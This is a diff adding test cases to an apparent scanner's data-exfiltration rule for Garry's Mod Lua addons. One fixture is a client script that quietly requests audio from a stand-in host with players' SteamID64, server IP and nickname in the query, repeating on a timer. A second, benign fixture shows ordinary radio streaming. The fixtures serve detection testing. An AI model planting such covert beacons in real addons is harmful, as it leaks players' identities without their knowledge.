@@ -164,4 +164,37 @@ describe('dataexfiltration', () => {
     });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
   });
+  it("a stream opened unplayed on players' clients, its query carrying who they are", () => {
+    const findings = check(rule, {
+      'lua/autorun/client/cl_hits.lua': [
+        'local function Warm(kind)',
+        '  local me = LocalPlayer()',
+        '  local url = "https://snd.hits.invalid/p/" .. kind .. ".mp3?u=" .. me:SteamID64() .. "&s=" .. game.GetIPAddress()',
+        '  sound.PlayURL(url, "noplay noblock", function(ch) if IsValid(ch) then ch:Stop() end end)',
+        'end',
+        'hook.Add("InitPostEntity", "warm", function() timer.Simple(10, function() Warm("hit") end) end)',
+        'timer.Create("warm2", 600, 0, function() sound.PlayURL("https://snd.hits.invalid/k.mp3?n=" .. LocalPlayer():Nick(), "noplay") end)',
+      ].join('\n'),
+    });
+    expect(findings.filter((f) => f.severity === 'high')).toHaveLength(2);
+  });
+  it('a radio stream preloaded for later, a 3D sound played, a stream with no query (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/client/cl_radio.lua': [
+        'Radio = Radio or {}',
+        'function Radio.Preload(id)',
+        '  sound.PlayURL("https://radio.invalid/stream?station=" .. id, "noplay noblock", function(ch) Radio.Channel = ch end)',
+        'end',
+        'function Radio.Boom(ent, id)',
+        '  sound.PlayURL("https://radio.invalid/fx.mp3?id=" .. id, "3d noplay", function(ch) if IsValid(ch) then ch:SetPos(ent:GetPos()) ch:Play() end end)',
+        'end',
+        'hook.Add("InitPostEntity", "radio", function()',
+        '  Radio.Preload(LocalPlayer():SteamID64())',
+        '  Radio.Boom(LocalPlayer(), 2)',
+        '  sound.PlayURL("https://radio.invalid/jingle.mp3", "noplay", function(ch) if IsValid(ch) then ch:Stop() end end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
+  });
 });
